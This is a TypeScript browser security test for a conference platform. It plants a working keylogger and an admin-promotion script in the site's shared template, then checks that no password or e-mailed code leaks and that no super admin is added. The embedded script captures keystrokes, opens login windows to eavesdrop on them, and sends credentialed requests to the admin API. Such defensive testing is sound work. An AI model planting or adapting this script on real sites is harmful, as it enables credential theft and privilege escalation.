/**
 * The attacks of the security report, in a real browser against the real server
 * (docs/security.md): a conference's common template carries a keylogger and a script that
 * tries to promote its author through a super admin's session. The keylogger listens to every
 * input of every window it can reach and opens the account pages itself; it must capture no
 * password and no code. The promotion must change nothing.
 */
import { after, before, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import fs from 'node:fs';
import type { Browser, BrowserContext, Page } from 'playwright-core';
import { createDb } from '../../server/db/index';
import { mailedCodeFrom, startSmtpPeer, type SmtpPeer } from '../server/mail/smtpPeer';
import { accountForms, haveBrowser, launch, shot, warnIfNoBrowser, expectConsoleErrors } from './browser';
import { startServer, type RunningServer } from './server';

warnIfNoBrowser();

/** What a malicious manager puts in the common template: listen everywhere, keep what it hears. */
const KEYLOGGER = `
<input id="probe" placeholder="probe">
<script>
(function () {
  var platform = location.protocol + '//platform.localhost' + (location.port ? ':' + location.port : '');
  function keep(what) {
    try { var all = JSON.parse(localStorage.getItem('captured') || '[]'); all.push(String(what)); localStorage.setItem('captured', JSON.stringify(all)); } catch (e) {}
  }
  function listen(win) {
    try {
      ['input', 'change', 'keydown', 'keyup', 'paste'].forEach(function (type) {
        win.addEventListener(type, function (e) { var t = e.target; keep(type + ':' + (t && 'value' in t ? t.value : '') + ':' + (e.key || '')); }, true);
      });
      win.addEventListener('message', function (e) { keep('message:' + JSON.stringify(e.data)); }, true);
      setInterval(function () {
        try { win.document.querySelectorAll('input').forEach(function (i) { if (i.value) keep('scan:' + i.value); }); } catch (e) {}
        for (var i = 0; i < win.frames.length; i++) {
          try { win.frames[i].document.querySelectorAll('input').forEach(function (x) { keep('frame:' + x.value); }); listen(win.frames[i]); } catch (e) { /* cross-origin: unreachable */ }
        }
      }, 100);
    } catch (e) {}
  }
  listen(window);
  // Every window it can open: the conference's own account pages, and the platform's.
  window.__opened = [];
  // Once, from a window the victim opened (windows it opens carry the template too).
  if (window.opener || sessionStorage.getItem('opened')) return;
  sessionStorage.setItem('opened', '1');
  ['/conferencelogin', '/resetPassword', '/userRegister'].forEach(function (p) {
    var w = window.open(p, '_blank');
    if (w) { window.__opened.push(w); w.addEventListener('load', function () { listen(w); }); }
  });
  // Until the platform page commits, the new window is about:blank and inherits this origin;
  // that blank window holds nothing, so the script keeps trying until the real page is there.
  try {
    var p = window.open(platform + '/conferencelogin', '_blank');
    if (p) window.__opened.push(p);
    var tries = 0;
    var probe = setInterval(function () {
      tries++;
      try {
        var href = p.location.href;
        if (href === 'about:blank' && tries < 100) return;
        clearInterval(probe); keep('platform window reachable: ' + href); listen(p);
      } catch (e) { clearInterval(probe); keep('platform window: cross-origin'); }
    }, 100);
  } catch (e) {}
  // The promotion: same origin, and across to the platform host.
  var body = JSON.stringify({ email: 'attacker@example.org' });
  var opts = { method: 'POST', credentials: 'include', headers: { 'Content-Type': 'application/json' }, body: body };
  fetch('/api/platform/admin/superAdmins', opts).then(function (r) { keep('promote-here:' + r.status); }, function () { keep('promote-here:failed'); });
  fetch(platform + '/api/platform/admin/superAdmins', opts).then(function (r) { keep('promote-platform:' + r.status); }, function () { keep('promote-platform:blocked'); });
})();
</script>`;

describe('template scripts against credentials and super admins, in Chromium', { skip: !haveBrowser }, () => {
  let smtp: SmtpPeer;
  let server: RunningServer;
  let browser: Browser;
  const site = (p: string) => `http://demo.localhost:${server.port}${p}`;
  const password = 'victim-secret-pass-1';
  const newPassword = 'victim-new-secret-2';
  const adminPassword = 'e2e-admin-password-1';

  async function captured(page: Page): Promise<string[]> {
    await page.goto(site('/404'));
    return JSON.parse((await page.evaluate(() => localStorage.getItem('captured'))) ?? '[]');
  }

  const codeFor = (to: string, since: number) => mailedCodeFrom(smtp, to, since);

  before(async () => {
    smtp = await startSmtpPeer();
    // First start seeds the demo; the manager's keylogger goes into its common templates.
    const first = await startServer({ env: { SMTP_URL: smtp.url() } });
    await first.stop();
    const db = createDb({ dataDir: first.dataDir });
    const commons = await db('pages').where({ type: 'TEMPLATE', template_kind: 'common' });
    for (const row of commons)
      await db('pages')
        .where({ id: row.id })
        .update({ html: `${row.html}${KEYLOGGER}` });
    const { ensureUser } = await import('../../server/modules/accounts/service');
    await ensureUser(db, { email: 'victim@example.org', trueName: 'Victim', password });
    await db.destroy();
    server = await startServer({ dataDir: first.dataDir, env: { SMTP_URL: smtp.url() } });
    browser = await launch();
  });

  after(async () => {
    await browser?.close();
    await server?.stop();
    await smtp?.stop();
    if (server) fs.rmSync(server.dataDir, { recursive: true, force: true });
  });

  /** The template's script (on every page of the site) calls the platform's admin API across origins: refused, which is what these tests assert. */
  function refusedTemplateScript(context: BrowserContext): void {
    expectConsoleErrors(
      context,
      /blocked by CORS policy|net::ERR_FAILED .*\/api\/platform\/admin\//,
      'the template script refused by the platform',
    );
    expectConsoleErrors(
      context,
      /status of 404 \(Not Found\) http:\/\/[^ ]+\/404$/,
      'the template script sent to the 404 page',
    );
  }

  test('a keylogger in the template captures no password and no code', async () => {
    const context = await browser.newContext({ viewport: { width: 1280, height: 900 } });
    refusedTemplateScript(context);
    const page = await context.newPage();
    // The victim reaches the site; the script opens the account pages in windows of its own.
    await page.goto(site('/'));
    await page.locator('#probe').fill('probe-typed');
    // The victim signs in in the window the script opened (the script listens to it).
    let opened: Page | undefined;
    for (let i = 0; i < 50 && !opened; i++) {
      opened = context.pages().find((p) => p !== page && p.url().startsWith(site('/conferencelogin')));
      if (!opened) await page.waitForTimeout(100);
    }
    assert.ok(opened, 'the script opened the login page');
    const forms = await accountForms(opened);
    await forms.locator('[data-island="LoginForm"][data-hydrated="true"]').waitFor();
    await forms.locator('#login_email').fill('victim@example.org');
    await forms.locator('#login_password').pressSequentially(password);
    await forms.locator('form#login button[type=submit]').click();
    await opened
      .waitForURL((u) => u.pathname === '/conferenceRegister' || u.pathname === '/profile/userInfo')
      .catch(async (e) => {
        await shot(opened, 'security-debug');
        throw e;
      });
    assert.ok(
      (await context.cookies(site('/'))).some((c) => c.name === 'token' && c.httpOnly),
      'signed in on the conference',
    );

    // The victim resets the password on the template's own /resetPassword page.
    await page.goto(site('/resetPassword'));
    const reset = await accountForms(page);
    await reset.locator('[data-island="ResetPasswordForm"][data-hydrated="true"]').waitFor();
    // Signed in: the e-mail is filled in and locked.
    assert.equal(await reset.locator('#reset_email').inputValue(), 'victim@example.org');
    const since = smtp.received.length;
    await reset.locator('.code-button:not([disabled])').click();
    const code = await codeFor('victim@example.org', since);
    await reset.locator('#reset_verifyCode').pressSequentially(code);
    await reset.locator('#reset_password').pressSequentially(newPassword);
    await reset.locator('#reset_confirmPassword').pressSequentially(newPassword);
    await shot(page, 'security-reset-in-template', false);
    await reset.locator('form#reset button[type=submit]').click();
    await page.waitForURL((u) => u.pathname === '/conferenceRegister' || u.pathname === '/profile/userInfo');

    const heard = await captured(page);
    assert.ok(
      heard.some((h) => h.includes('probe-typed')),
      `the keylogger works on the conference's own inputs (${heard.length} entries)`,
    );
    const all = heard.join('\n');
    for (const secret of [password, newPassword, code])
      assert.equal(all.includes(secret), false, `"${secret}" was captured`);
    assert.equal(
      all.includes('platform window reachable'),
      false,
      'the platform window was reachable from the template',
    );
    assert.ok(all.includes('platform window: cross-origin'), 'the script did try the platform window');
    await context.close();
  });

  test('a super admin opening the site: the promotion script changes nothing', async () => {
    const context = await browser.newContext({ viewport: { width: 1280, height: 900 } });
    refusedTemplateScript(context);
    const page = await context.newPage();
    // Signed in on the conference host (where the queue link takes them) and on the platform.
    await page.goto(`http://platform.localhost:${server.port}/conferencelogin?redirect=%2Fadmin%2Fpublications`);
    await page.locator('[data-island="LoginForm"][data-hydrated="true"]').waitFor();
    await page.locator('#login_email').fill('admin@platform.localhost');
    await page.locator('#login_password').fill(adminPassword);
    await page.locator('form#login button[type=submit]').click();
    await page.waitForURL((u) => u.pathname === '/admin/publications');
    const forms = await (async () => {
      await page.goto(site('/conferencelogin?redirect=%2F'));
      return accountForms(page);
    })();
    await forms.locator('[data-island="LoginForm"][data-hydrated="true"]').waitFor();
    await forms.locator('#login_email').fill('admin@platform.localhost');
    await forms.locator('#login_password').fill(adminPassword);
    await forms.locator('form#login button[type=submit]').click();
    await page.waitForURL(site('/'));
    // Both attempts run at once; wait for the outcome of each before reading them.
    await page.waitForFunction(
      () => ['promote-platform:', 'promote-here:'].every((k) => (localStorage.getItem('captured') ?? '').includes(k)),
      undefined,
      { timeout: 10_000 },
    );
    const heard = (await page.evaluate(() => localStorage.getItem('captured'))) ?? '';
    assert.match(heard, /promote-here:404/);
    assert.doesNotMatch(heard, /promote-platform:200/);
    const db = createDb({ dataDir: server.dataDir });
    assert.equal(await db('users').where({ email: 'attacker@example.org' }).first(), undefined);
    assert.equal(Number((await db('super_admins').count({ n: '*' }).first())!.n), 1);
    await db.destroy();
    await context.close();
  });
});
